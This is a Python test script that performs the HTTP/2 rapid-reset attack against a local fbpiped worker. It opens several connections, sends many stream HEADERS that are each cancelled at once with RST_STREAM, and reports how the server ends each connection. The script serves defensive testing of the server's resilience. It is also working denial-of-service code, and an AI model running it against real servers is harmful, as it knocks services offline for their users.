"""rapid_reset.py -- HTTP/2 rapid reset against one fbpiped worker, for
test-rapid-reset: on each of CONNS connections (raw HTTP/2 with the h2
package, no token), STREAMS times HEADERS of a Stream call followed at
once by RST_STREAM(CANCEL).

usage: rapid_reset.py PORT CONNS STREAMS
Prints how many streams were sent and reset, and how the server ended
each connection (still open, GOAWAY, or closed).
"""
import socket
import sys
import threading

import h2.config
import h2.connection
import h2.events
import h2.exceptions

port, conns, streams = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
HEADERS = [(":method", "POST"), (":scheme", "http"), (":path", "/fbpipe.v1.Ingest/Stream"),
           (":authority", "127.0.0.1:%d" % port), ("content-type", "application/grpc"),
           ("te", "trailers")]
results = []


def attack():
    sent, ended = 0, "open"
    s = socket.create_connection(("127.0.0.1", port), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    s.setblocking(False)
    try:
        for i in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, HEADERS)
            conn.reset_stream(sid)
            sent += 1
            if i % 100 == 99:
                s.setblocking(True)
                s.sendall(conn.data_to_send())
                s.setblocking(False)
                try:
                    data = s.recv(65536)
                    if not data:
                        ended = "closed"
                        break
                    for ev in conn.receive_data(data):
                        if isinstance(ev, h2.events.ConnectionTerminated):
                            ended = "goaway"
                except BlockingIOError:
                    pass
                if ended != "open":
                    break
        s.setblocking(True)
        s.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError) as e:
        ended = "closed (%s)" % type(e).__name__
    finally:
        s.close()
    results.append((sent, ended))


threads = [threading.Thread(target=attack) for _ in range(conns)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print("rapid_reset: %d streams reset on %d connections (%s)"
      % (sum(r[0] for r in results), conns, ", ".join(r[1] for r in results)))
